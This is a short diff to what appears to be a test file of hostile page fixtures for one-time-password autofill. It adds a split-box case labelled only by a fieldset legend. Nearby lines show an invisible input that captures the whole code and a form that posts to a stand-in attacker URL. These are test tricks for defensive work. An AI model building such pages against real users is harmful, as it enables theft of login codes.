@@ -232,6 +232,9 @@ const TRICKS: Attack[] = [
   page('split boxes: eight, and one that takes the whole code', {
     line: `${boxes(8)}<input name="all" aria-label="ワンタイムパスワード" style="opacity: 0">`,
   }),
+  page('split boxes: eight, named by their group alone, and one that takes the whole code', {
+    line: `<fieldset><legend>ワンタイムパスワード</legend>${boxes(8).replaceAll('aria-label="ワンタイムパスワード"', '')}<input name="all" maxlength="8" aria-label="ワンタイムパスワード"></fieldset>`,
+  }),
   page('split boxes: eight, one of another form', (arena) => ({
     line: boxes(8, ' form="other"'),
     after: `<form id="other" action="${arena.attacker.url('/take')}"></form>`,
